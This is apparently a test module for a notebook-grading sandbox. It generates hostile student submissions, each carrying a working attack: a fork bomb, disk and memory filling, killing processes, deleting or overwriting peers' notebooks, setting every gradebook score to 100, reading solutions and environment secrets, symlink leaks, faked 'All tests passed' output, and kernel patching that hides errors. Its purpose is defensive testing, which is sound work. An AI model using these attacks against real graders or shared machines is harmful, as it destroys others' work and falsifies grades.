"""Hostile submissions for the grading sandbox's end-to-end tests.

Each attacker is a made-up student whose submission is the release notebook
(answers untouched, so it is worth 0 points honestly) with one attack's code put
at the top of its first answer cell (one attack, which needs more time than a
cell may take, goes on in the later answer cells).  The code knows the grading machine: the
absolute paths of the course, of the other students' work and of the
repository, a TCP port and an abstract unix socket the test listens on, the
process ids of the test and of a bystander process, a secret in the grader's
environment (:class:`Target`).

Every attempt prints one line, ``RESULT <label> => ok: <value>`` or
``RESULT <label> => failed: <error>``, which :func:`parse_results` reads back
from the autograded notebook; a few attacks print a number (processes forked,
bytes written) in the same way.  The attack code never prints what it found in
someone else's file, only its SHA-256 and size (and, for notebooks, whether it
holds a string that only that file has), so a leak shows as a digest the test
can compare with the real file's.
"""

from __future__ import annotations

import re
import socket
import threading
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import nbformat
from course_scenarios import TIMESTAMP, is_answer_cell, nbgrader_meta

GiB = 2**30
MiB = 2**20
# Sizes the attacks stop at by themselves (far above what the sandbox allows).
FORK_COUNT = 1000
FILL_BYTES = 2 * GiB
FILL_CHUNK = 16 * MiB
FLOOD_BYTES = 100 * MiB
UNBOUNDED_FILL_BYTES = GiB  # written outside the two bounded tmpfs, in 128 MiB files
SPREAD_CHILDREN = 3  # processes holding SPREAD_BYTES each, together above the 4 GiB cap
SPREAD_BYTES = 3 * GiB // 2
LOG_FLOOD_BYTES = 64 * MiB  # twice the output bound
# What only the solutions notebook holds (the release strips it; it is no test cell).
SOLUTION_ONLY = "### BEGIN SOLUTION"
RESULT_LINE = re.compile(r"^RESULT (?P<label>.+?) => (?P<status>ok|failed): (?P<detail>.*)$", re.M)


@dataclass(frozen=True)
class Target:
    """What the attacks aim at; every marker they leave contains ``token``."""

    root: Path  # the course copy being graded
    repo: Path  # the repository checkout (outside /tmp)
    venv: Path  # the grading Python's environment
    package: Path  # the convkit package directory
    token: str
    victim: str  # an honest student whose submission is deleted and read
    forged: str  # an honest student whose submission is overwritten
    port: int  # TCP listener of the test, on every host address
    host_ip: str | None  # the host's own non-loopback address, if any
    abstract_socket: str  # abstract unix socket name the test listens on
    bystander_pid: int | None  # a process of user nobody outside the grading run
    grader_pid: int  # the test process
    secret: str  # a value in the environment autograde runs with

    def marker(self, what: str) -> str:
        """A file or process name unique to this run and this attempt."""
        return f"cvk-{self.token}-{what}"

    def notebook(self, student: str) -> Path:
        """The submitted ch01 notebook of ``student``."""
        return self.root / "submitted" / student / "ch01" / "ch01.ipynb"


@dataclass(frozen=True)
class Attack:
    """One attacker student: what the code tries and what grading may make of it.

    ``ungraded`` lists the UNGRADED reasons allowed instead of a 0 (the attack may
    break its own run); ``must_be`` is the one reason required (it may not be graded).
    ``symlinks`` (name -> target) are put into the submission folder beside the
    notebook.  ``scores`` is True for a known weakness: the attack does get points.
    """

    student: str
    letter: str
    title: str
    code: Callable[[Target], str]
    ungraded: frozenset[str] = frozenset()
    must_be: str | None = None
    symlinks: Callable[[Target], dict[str, Path]] | None = None
    scores: bool = False
    later: Callable[[Target], str] | None = None  # put atop every other answer cell


PREAMBLE = """\
import hashlib as _hashlib
import os as _os
import sys as _sys


def _report(_label, _attempt):
    try:
        _value = _attempt()
    except Exception as _exc:
        print(f"RESULT {_label} => failed: {type(_exc).__name__}: {_exc}", flush=True)
    else:
        print(f"RESULT {_label} => ok: {_value}", flush=True)


def _write(_path, _data=b"written by an attack"):
    _os.makedirs(_os.path.dirname(_path), exist_ok=True)
    with open(_path, "wb") as _file:
        _file.write(_data)
    return f"wrote {_path}"


def _digest(_path, _needle=None):
    # What a file holds, shown by its digest, its first bytes and the line with the needle.
    with open(_path, "rb") as _file:
        _data = _file.read()
    _text = f"sha256={_hashlib.sha256(_data).hexdigest()} bytes={len(_data)} first={_data[:40]!r}"
    if _needle is not None:
        _lines = [_l for _l in _data.decode(errors="replace").splitlines() if _needle in _l]
        _text += f" holds the needle: {bool(_lines)} {_lines[:1]}"
    return _text

"""


def _code(body: str) -> str:
    return PREAMBLE + body.strip("\n") + "\n\n"


def write_outside(t: Target) -> str:
    targets = {
        "course root": t.root / t.marker("course-root"),
        "course solutions": t.root / "solutions" / "ch01" / t.marker("solutions"),
        "host tmp": Path("/tmp") / t.marker("host-tmp"),
        "home": Path.home() / t.marker("home"),
        "repository": t.repo / t.marker("repo"),
        "convkit package": t.package / t.marker("package"),
        "venv": t.venv / t.marker("venv"),
    }
    lines = [f"_report({f'write {k}'!r}, lambda: _write({str(v)!r}))" for k, v in targets.items()]
    return _code("\n".join(lines))


def delete_peer(t: Target) -> str:
    path = str(t.notebook(t.victim))
    return _code(f"_report('delete peer notebook', lambda: _os.remove({path!r}))")


def overwrite_peer(t: Target) -> str:
    path = str(t.notebook(t.forged))
    return _code(
        f"""
def _forge():
    with open({path!r}, "w") as _file:
        _file.write('{{"cells": [], "forged": true}}')
    return "forged"
_report("overwrite peer notebook", _forge)
"""
    )


def write_gradebook(t: Target) -> str:
    db = str(t.root / "gradebook.db")
    repo_db = str(t.repo / "gradebook.db")
    return _code(
        f"""
import sqlite3 as _sqlite3


def _update(_uri):
    _db = _sqlite3.connect(_uri, uri=True)
    _n = _db.execute("UPDATE grade SET auto_score = 100").rowcount
    _db.commit()
    return f"updated {{_n}} grades"


def _count(_uri):
    _db = _sqlite3.connect(_uri, uri=True)
    return f"{{_db.execute('SELECT count(*) FROM grade').fetchone()[0]}} grades"


_report("update gradebook", lambda: _update("file:" + {db!r} + "?mode=rw"))
_report("update gradebook, create", lambda: _update("file:" + {db!r}))
_report("read repository gradebook", lambda: _count("file:" + {repo_db!r} + "?mode=ro"))
_report("create gradebook file", lambda: _write({db + "-" + t.marker("db")!r}))
"""
    )


def read_solutions(t: Target) -> str:
    course = str(t.root / "solutions" / "ch01" / "ch01.ipynb")
    repo = str(t.repo / "solutions" / "ch01" / "ch01.ipynb")
    return _code(
        f"""
_report("read course solutions", lambda: _digest({course!r}, "BEGIN SOLUTION"))
_report("read repository solutions", lambda: _digest({repo!r}, "BEGIN SOLUTION"))
_report("list course solutions", lambda: _os.listdir({str(t.root / "solutions")!r}))
"""
    )


def read_peer(t: Target) -> str:
    path = str(t.notebook(t.victim))
    return _code(
        f"""
_report("read peer notebook", lambda: _digest({path!r}))
_report("list submissions", lambda: _os.listdir({str(t.root / "submitted")!r}))
"""
    )


def network(t: Target) -> str:
    addresses = [("127.0.0.1", t.port), ("1.1.1.1", 80), ("8.8.8.8", 53)]
    if t.host_ip:
        addresses.insert(1, (t.host_ip, t.port))
    return _code(
        f"""
import socket as _socket


def _tcp(_address):
    with _socket.create_connection(_address, timeout=3) as _conn:
        _conn.sendall(b"attack")
        return f"connected to {{_address}}"


def _unix(_name):
    with _socket.socket(_socket.AF_UNIX, _socket.SOCK_STREAM) as _conn:
        _conn.settimeout(3)
        _conn.connect("\\0" + _name)
        _conn.sendall(b"attack")
        return f"connected to @{{_name}}"


for _address in {addresses!r}:
    _report(f"tcp {{_address[0]}}:{{_address[1]}}", lambda: _tcp(_address))
_report("dns example.com", lambda: _socket.getaddrinfo("example.com", 80))
_report("unix @abstract", lambda: _unix({t.abstract_socket!r}))
"""
    )


def fork_bomb(t: Target) -> str:
    return _code(
        f"""
_made = 0
_error = "none"
for _ in range({FORK_COUNT}):
    try:
        _pid = _os.fork()
    except OSError as _exc:
        _error = f"{{type(_exc).__name__}}: {{_exc}}"
        break
    if _pid == 0:
        try:
            _os.execv("/usr/bin/sleep", [{t.marker("forked")!r}, "60"])
        finally:
            _os._exit(0)
    _made += 1
print(f"RESULT forked => ok: {{_made}}", flush=True)
print(f"RESULT fork stopped by => ok: {{_error}}", flush=True)
"""
    )


def disk_filler(t: Target) -> str:
    return _code(
        f"""
_chunk = b"\\1" * {FILL_CHUNK}
_written = 0
_stops = []
for _folder in (".", "/tmp"):
    _fd = _os.open(_os.path.join(_folder, {t.marker("fill")!r}), _os.O_WRONLY | _os.O_CREAT, 0o600)
    try:
        while _written < {FILL_BYTES}:
            _written += _os.write(_fd, _chunk)
    except OSError as _exc:
        _stops.append(f"{{_folder}}: {{type(_exc).__name__}}: {{_exc}}")
    finally:
        _os.close(_fd)
    if _written >= {FILL_BYTES}:
        break
print(f"RESULT bytes written => ok: {{_written}}", flush=True)
print(f"RESULT filler stopped by => ok: {{_stops}}", flush=True)
"""
    )


def daemon(t: Target) -> str:
    sleeper = f"import time; time.sleep(600)  # {t.marker('daemon')}"
    return _code(
        f"""
import subprocess as _subprocess


def _popen():
    _proc = _subprocess.Popen(
        [_sys.executable, "-c", {sleeper!r}],
        start_new_session=True,
        stdin=_subprocess.DEVNULL,
        stdout=_subprocess.DEVNULL,
        stderr=_subprocess.DEVNULL,
    )
    return f"pid {{_proc.pid}}"


def _double_fork():
    _first = _os.fork()
    if _first == 0:
        _os.setsid()
        if _os.fork() == 0:
            _os.execv(_sys.executable, [_sys.executable, "-c", {sleeper + " double fork"!r}])
        _os._exit(0)
    _os.waitpid(_first, 0)
    return "detached"


_report("daemon popen", _popen)
_report("daemon double fork", _double_fork)
"""
    )


def forged_pass(t: Target) -> str:
    return _code(
        """
print("All tests passed!")
print("Score: 10 / 10")
print("[AutogradeApp | INFO] Autograding ch01: 10.0 / 10.0 points")
print("[SaveAutoGrades | INFO] ch01-conv1d-hidden: 1.5 / 1.5")
print('{"status": "graded", "score": 10.0, "max_score": 10.0}')
print("RESULT forged => ok: printed", flush=True)
"""
    )


def kill_all(t: Target) -> str:
    targets = {"-1": -1, "1": 1, "parent": "_os.getppid()", "grader": t.grader_pid}
    if t.bystander_pid is not None:
        targets["bystander"] = t.bystander_pid
    lines = [f"_report('kill {label}', lambda: _kill({pid}))" for label, pid in targets.items()]
    # Run as root (no sandbox), kill -1 would take down the machine: refuse instead.
    return _code(
        """
import signal as _signal


def _kill(_pid):
    if _os.getuid() == 0:
        raise PermissionError("running as root, so not sandboxed: attack skipped")
    _os.kill(_pid, _signal.SIGKILL)
    return f"signalled {_pid}"


"""
        + "\n".join(lines)
    )


def output_flood(t: Target) -> str:
    return _code(
        f"""
_line = "x" * 1023 + "\\n"
_block = _line * 1024
for _ in range({FLOOD_BYTES // MiB}):
    _sys.stdout.write(_block)
    _sys.stdout.flush()
print("RESULT flood => ok: all printed", flush=True)
"""
    )


def recon(t: Target) -> str:
    return _code(
        f"""
import time as _time

_pids = sorted(int(p) for p in _os.listdir("/proc") if p.isdigit())
print(f"RESULT visible processes => ok: {{len(_pids)}}", flush=True)
for _pid in _pids:
    try:
        with open(f"/proc/{{_pid}}/cmdline", "rb") as _file:
            _cmd = _file.read().replace(b"\\0", b" ").decode(errors="replace")
    except OSError as _exc:
        _cmd = f"unreadable: {{_exc}}"
    print(f"RESULT cmdline {{_pid}} => ok: {{_cmd[:100]}}", flush=True)


def _environ(_pid):
    with open(f"/proc/{{_pid}}/environ", "rb") as _file:
        _env = _file.read().split(b"\\0")
    _mine = [v.decode() for v in _env if v.startswith(b"CONVKIT_E2E_GRADER_SECRET=")]
    return f"{{len(_env)}} variables, the grader's secret: {{_mine}}"


for _pid in _pids:
    _report(f"environ {{_pid}}", lambda: _environ(_pid))
_report("own environment has the secret", lambda: {t.secret!r} in str(_os.environ))
_report("grader process", lambda: _os.kill({t.grader_pid}, 0) or "exists")
_report("uid", lambda: _os.getuid())
_report("open files", lambda: sorted(
    f"{{n}}->{{_os.readlink(f'/proc/self/fd/{{n}}')}}" for n in _os.listdir("/proc/self/fd")
    if _os.path.exists(f"/proc/self/fd/{{n}}")))


def _search():
    import convkit as _convkit

    _skip = {{"/proc", "/sys", "/dev", "/usr", "/etc"}}
    _skip |= {{_os.path.realpath(p) for p in (_sys.prefix, _sys.base_prefix)}}
    _skip.add(_os.path.dirname(_os.path.dirname(_os.path.realpath(_convkit.__file__))))
    _found = []
    _stop = _time.monotonic() + 4
    for _dir, _dirs, _files in _os.walk("/"):
        if _dir in _skip or _time.monotonic() > _stop:
            _dirs[:] = []
            continue
        _found += [_os.path.join(_dir, f) for f in _files
                   if f.endswith((".db", ".ipynb")) or "gradebook" in f]
    return _found[:20]


_report("files found", _search)
"""
    )


def memory_spread(t: Target) -> str:
    hold = f"x = b'1' * {SPREAD_BYTES}; print('held', flush=True); import time; time.sleep(60)"
    return _code(
        f"""
import select as _select
import subprocess as _subprocess
import time as _time

_spread = [
    _subprocess.Popen([_sys.executable, "-c", {hold!r}], stdout=_subprocess.PIPE)
    for _ in range({SPREAD_CHILDREN})
]
_spread_held, _spread_gone = set(), set()


def _spread_step(_seconds=8):
    # Wait for the children to report; once all did, say how much they hold and end them.
    _deadline = _time.monotonic() + _seconds
    while len(_spread_held | _spread_gone) < len(_spread) and _time.monotonic() < _deadline:
        _pending = {{
            c.stdout.fileno(): i
            for i, c in enumerate(_spread)
            if i not in _spread_held | _spread_gone
        }}
        _ready, _, _ = _select.select(list(_pending), [], [], 0.2)
        for _fd in _ready:
            _got = _os.read(_fd, 16)
            (_spread_held if _got.startswith(b"held") else _spread_gone).add(_pending[_fd])
    # A child that reported may have been killed since (the kernel's OOM killer may pick
    # a child that already holds its share, so that the last one can finish): count only
    # the ones still alive a moment later, the memory really held at once.
    _time.sleep(0.5)
    _alive = [i for i in _spread_held if _spread[i].poll() is None]
    _bytes = len(_alive) * {SPREAD_BYTES}
    print(f"RESULT bytes held at once => ok: {{_bytes}}", flush=True)
    print(f"RESULT children gone => ok: {{len(_spread) - len(_alive)}}", flush=True)
    if len(_spread_held | _spread_gone) == len(_spread):
        for _child in _spread:
            _child.kill()
            _child.wait()


_spread_step()
"""
    )


def memory_spread_later(t: Target) -> str:
    """Later answer cells wait on (each up to 8 s: the per-cell timeout is 10 s)."""
    return "if len(_spread_held | _spread_gone) < len(_spread):\n    _spread_step()\n"


def unbounded_fill(t: Target) -> str:
    return _code(
        f"""
_chunk = b"\\1" * {FILL_CHUNK}
_places = ["/", "/root", "/run", "/home", "/dev"]
_outside = 0
_files = 0
while _outside < {UNBOUNDED_FILL_BYTES} and _places:
    _path = _os.path.join(_places[0], {t.marker("unbounded")!r} + f"-{{_files}}")
    _files += 1
    try:
        _fd = _os.open(_path, _os.O_WRONLY | _os.O_CREAT, 0o600)
        try:
            for _ in range({128 * MiB // FILL_CHUNK}):
                _outside += _os.write(_fd, _chunk)
        finally:
            _os.close(_fd)
    except OSError as _exc:
        print(f"RESULT fill {{_places.pop(0)}} => failed: {{type(_exc).__name__}}: {{_exc}}")
        continue
    print(f"RESULT fill {{_path}} => ok: 128 MiB", flush=True)
    _places.append(_places.pop(0))
print(f"RESULT bytes written outside the bounded tmpfs => ok: {{_outside}}", flush=True)
"""
    )


def symlink_targets(t: Target) -> dict[str, Path]:
    """Files a submission links to: nbgrader copies what they point at (as the grader)."""
    return {
        "peek-solutions.txt": t.root / "solutions" / "ch01" / "ch01.ipynb",
        "peek-peer.txt": t.notebook(t.victim),
        "peek-gradebook.txt": t.root / "gradebook.db",
    }


def symlink_leak(t: Target) -> str:
    lines = [
        f"_report('read {name}', lambda: _digest({name!r}, 'BEGIN SOLUTION'))"
        for name in symlink_targets(t)
    ]
    return _code("_report('listdir', lambda: sorted(_os.listdir('.')))\n" + "\n".join(lines))


def hide_failures(t: Target) -> str:
    return _code(
        """
_shell = get_ipython()
_kernel = _shell.kernel
_original_execute = _kernel.do_execute


async def _always_ok(*args, **kwargs):
    _reply = await _original_execute(*args, **kwargs)
    if _reply.get("status") == "error":
        _count = _reply.get("execution_count", 0)
        _reply = {"status": "ok", "execution_count": _count, "user_expressions": {}, "payload": []}
    return _reply


_kernel.do_execute = _always_ok
_shell.set_custom_exc((BaseException,), lambda *args, **kwargs: None)
print("RESULT error display and error replies => ok: suppressed", flush=True)
"""
    )


def log_flood(t: Target) -> str:
    return _code(
        f"""
def _host_files():
    _found = {{}}
    for _n in _os.listdir("/proc/self/fd"):
        try:
            _link = _os.readlink(f"/proc/self/fd/{{_n}}")
        except OSError:
            continue
        if _link.startswith("/") and not _os.path.exists(_link):
            _found[int(_n)] = _link
    return _found


_open = _host_files()
print(f"RESULT host files open => ok: {{sorted(set(_open.values()))}}", flush=True)
_written = 0
if _open:
    _fd = min(_open)
    _block = ("x" * 1023 + "\\n").encode() * 1024
    try:
        while _written < {LOG_FLOOD_BYTES}:
            _written += _os.write(_fd, _block)
    except OSError as _exc:
        print(f"RESULT log flood stopped by => ok: {{type(_exc).__name__}}: {{_exc}}")
print(f"RESULT bytes written to a host file => ok: {{_written}}", flush=True)
"""
    )


ATTACKS = [
    Attack("01-h-fork-bomb", "h", "fork bomb", fork_bomb),
    Attack("03-i-disk-filler", "i", "disk filler (cwd, /tmp)", disk_filler),
    Attack(
        "05-l-kill-all",
        "l",
        "kill -1, pid 1, parent, others",
        kill_all,
        ungraded=frozenset({"kernel died"}),
    ),
    Attack("07-m-output-flood", "m", "100 MiB of output", output_flood, must_be="output too large"),
    Attack("08-j-daemon", "j", "daemon left behind", daemon),
    Attack("09-a-write-outside", "a", "write files outside its scratch", write_outside),
    Attack("10-b-delete-peer", "b", "delete another student's notebook", delete_peer),
    Attack("11-c-overwrite-peer", "c", "overwrite another student's notebook", overwrite_peer),
    Attack("12-d-write-gradebook", "d", "write the gradebook", write_gradebook),
    Attack("13-e-read-solutions", "e", "read solutions/", read_solutions),
    Attack("14-f-read-peer", "f", "read another student's notebook", read_peer),
    Attack("15-g-network", "g", "network and host loopback", network),
    Attack("16-k-forged-pass", "k", "forged 'passed' output", forged_pass),
    Attack("17-n-recon", "n", "/proc, environment, file search", recon),
    Attack(
        "18-o-memory-spread",
        "o",
        "memory spread over child processes",
        memory_spread,
        later=memory_spread_later,
        ungraded=frozenset({"kernel died"}),
    ),
    Attack("19-p-unbounded-fill", "p", "fill the sandbox's unbounded tmpfs", unbounded_fill),
    Attack(
        "20-q-symlink-leak",
        "q",
        "submitted symlinks to course files",
        symlink_leak,
        symlinks=symlink_targets,
    ),
    Attack(
        "21-r-hide-failures",
        "r",
        "hide test failures (patched kernel replies)",
        hide_failures,
        must_be="kernel tampered with",
    ),
    Attack("22-s-log-flood", "s", "write the grader's log through an inherited fd", log_flood),
]
BY_LETTER = {attack.letter: attack for attack in ATTACKS}


def build_attacker(attack: Attack, target: Target, release: Path, folder: Path) -> None:
    """Write ``attack``'s submission: the release notebook, the attack atop its first answer
    (and ``attack.later`` atop the other answers)."""
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "timestamp.txt").write_text(TIMESTAMP)
    nb = nbformat.read(release, as_version=4)
    first, *others = [cell for cell in nb.cells if is_answer_cell(cell)]
    header = f"# attack {attack.letter}: {attack.title}\n"
    first.source = header + attack.code(target) + first.source
    if attack.later is not None:
        for cell in others:
            cell.source = attack.later(target) + cell.source
    nbformat.write(nb, folder / release.name)
    for name, destination in (attack.symlinks(target) if attack.symlinks else {}).items():
        (folder / name).symlink_to(destination)


def answer_ids(release: Path) -> list[str]:
    """grade_ids of the answer cells, in order (the attacks go into the first)."""
    nb = nbformat.read(release, as_version=4)
    return [nbgrader_meta(cell)["grade_id"] for cell in nb.cells if is_answer_cell(cell)]


def cell_output_text(cell: nbformat.NotebookNode) -> str:
    """Everything a code cell showed: streams, results, errors (name, value, traceback)."""
    parts = []
    for output in cell.get("outputs", []):
        kind = output.get("output_type")
        if kind == "stream":
            parts.append(output.get("text", ""))
        elif kind == "error":
            parts.append(f"{output.get('ename')}: {output.get('evalue')}")
            parts.extend(output.get("traceback", []))
        else:
            data = output.get("data", {})
            parts.extend(str(data[m]) for m in ("text/plain", "text/html") if m in data)
    return "\n".join(parts)


def parse_results(text: str) -> dict[str, tuple[str, str]]:
    """label -> (ok | failed, detail) of every RESULT line in ``text``."""
    return {m["label"]: (m["status"], m["detail"]) for m in RESULT_LINE.finditer(text)}


class Listener:
    """A TCP listener on every host address and an abstract unix socket, both counting
    the connections they accept (each in a thread, until :meth:`close`)."""

    def __init__(self, abstract_name: str) -> None:
        self.tcp = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.tcp.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.tcp.bind(("0.0.0.0", 0))
        self.port = self.tcp.getsockname()[1]
        self.unix = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.unix.bind("\0" + abstract_name)
        self.connections: list[str] = []
        self._stop = threading.Event()
        self._threads = [
            threading.Thread(target=self._accept, args=(sock, label), daemon=True)
            for sock, label in ((self.tcp, "tcp"), (self.unix, "unix"))
        ]
        for sock in (self.tcp, self.unix):
            sock.listen(16)
            sock.settimeout(0.5)
        for thread in self._threads:
            thread.start()

    def _accept(self, sock: socket.socket, label: str) -> None:
        while not self._stop.is_set():
            try:
                conn, peer = sock.accept()
            except TimeoutError:
                continue
            except OSError:
                return
            self.connections.append(f"{label} from {peer!r}")
            conn.close()

    def close(self) -> None:
        """Stop accepting and close both sockets."""
        self._stop.set()
        for thread in self._threads:
            thread.join(timeout=5)
        self.tcp.close()
        self.unix.close()


def host_address() -> str | None:
    """The host's address on its default route (no packet is sent), or None."""
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
            probe.connect(("192.0.2.1", 9))
            address = probe.getsockname()[0]
    except OSError:
        return None
    return None if address.startswith("127.") else address
